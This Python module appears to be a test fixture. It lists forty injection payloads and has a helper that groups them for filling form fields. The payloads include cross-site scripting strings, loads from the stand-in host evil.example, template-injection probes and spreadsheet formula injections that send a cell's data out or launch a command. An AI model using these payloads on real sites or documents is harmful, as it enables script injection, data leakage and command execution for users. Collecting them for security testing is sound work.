"""Forty things that people write to make a page do what it should not."""

from __future__ import annotations

EVIL = "https://evil.example"
PAYLOADS = (
    "<script>pwned()</script>",
    "<ScRiPt>pwned()</sCrIpT>",
    f"<script src={EVIL}/x.js></script>",
    '"><script>pwned()</script>',
    "'><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</title></style><script>pwned()</script>",
    "--></script><script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    '"><img src="x" onerror="pwned()">',
    "<svg onload=pwned()>",
    "<svg/onload=alert(1)//",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:pwned()"><text y=9>x</text></a></svg>',
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    '" autofocus onfocus="pwned()',
    "' onmouseover='pwned()",
    '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
    '<iframe src="javascript:parent.pwned()"></iframe>',
    '<a href="javascript:pwned()">Cliquez ici</a>',
    "javascript:pwned()",
    "jAvAsCrIpT&colon;pwned()",
    '<object data="data:text/html,<script>pwned()</script>"></object>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    f'<base href="{EVIL}/">',
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<style>@import'{EVIL}/x.css';main{{display:none}}</style>",
    f'<div style="background:url({EVIL}/x)">x</div>',
    f"<form action={EVIL}><button>Continuer</button></form>",
    "{{7*7}} {{config}} {% raw %}",
    "{0.__class__} {name} %(name)s ${7*7} #{7*7}",
    "\u202e<\u200bscript>pwned()</script>\u2066",
    "＜script＞pwned()＜/script＞ <script\u2028>pwned()</script>",
    "&lt;script&gt;pwned()&lt;/script&gt; %3Cscript%3E",
    f'=HYPERLINK("{EVIL}/?"&A1;"Prix")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)


def groups(size: int) -> list[str]:
    """So many of them on lines of one text, for what has few fields."""
    return ["\n".join(PAYLOADS[at : at + size]) for at in range(0, len(PAYLOADS), size)]
